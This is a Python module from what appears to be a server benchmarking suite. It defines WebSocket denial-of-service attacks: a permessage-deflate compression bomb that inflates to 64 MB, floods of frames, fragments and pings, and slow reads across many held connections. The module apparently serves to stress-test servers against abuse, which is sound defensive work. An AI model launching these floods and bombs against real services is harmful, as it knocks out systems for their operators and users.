"""Attacks over WebSocket (RFC 6455, RFC 7692)."""

from __future__ import annotations

import base64
import itertools
import os
import zlib
from typing import TYPE_CHECKING, Final

from benchmarks.attacks.attack import Attack, Ports
from benchmarks.attacks.pressure import flood, hold, repeated

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

__all__ = ["WEBSOCKET_ATTACKS", "handshake"]

BOMB: Final = 64 << 20


def handshake(path: bytes = b"/", extensions: bytes = b"") -> bytes:
    return (
        b"GET %s HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
        b"%sSec-WebSocket-Key: %s\r\n\r\n" % (path, extensions, base64.b64encode(os.urandom(16)))
    )


def masked(kind: int, content: bytes = b"") -> bytes:
    """A frame of a client. ``kind``: its first byte. The mask is zero (RFC 6455, 5.2)."""
    size = len(content)
    if size < 126:
        length = bytes([0x80 | size])
    elif size < 65536:
        length = bytes([0x80 | 126]) + size.to_bytes(2, "big")
    else:
        length = bytes([0x80 | 127]) + size.to_bytes(8, "big")
    return bytes([kind]) + length + bytes(4) + content


def bomb() -> bytes:
    """A compressed message, a thousand times larger once it is inflated (RFC 7692, 7.2.1)."""
    deflate = zlib.compressobj(wbits=-15)
    return masked(0xC2, (deflate.compress(bytes(BOMB)) + deflate.flush(zlib.Z_SYNC_FLUSH))[:-4])


async def bombs(ports: Ports) -> None:
    """64 MB in 64 KB, again and again."""
    first = handshake(extensions=b"Sec-WebSocket-Extensions: permessage-deflate\r\n")
    message = bomb()
    await flood(ports.clear, lambda: itertools.chain([first], itertools.repeat(message)))


async def slow_reads(ports: Ports) -> None:
    """The application sends what is never read."""
    await hold(ports.clear, handshake(b"/large"), b"", count=200, receive_bytes=4096)


def websocket(wire: Callable[[], Iterator[bytes]]) -> Attack:
    async def run(ports: Ports) -> None:
        await flood(ports.clear, wire)

    return Attack(run=run)


WEBSOCKET_ATTACKS: Final = {
    "WebSocket bombs": Attack(run=bombs),
    "WebSocket fragments": websocket(repeated(masked(0x00, b"x"), handshake() + masked(0x02, b"x"))),
    "WebSocket empty fragments": websocket(repeated(masked(0x00), handshake() + masked(0x02))),
    "WebSocket messages": websocket(repeated(masked(0x82, b"x"), handshake())),
    "WebSocket pings": websocket(repeated(masked(0x89, b"ping"), handshake())),
    "WebSocket slow reads": Attack(run=slow_reads),
}
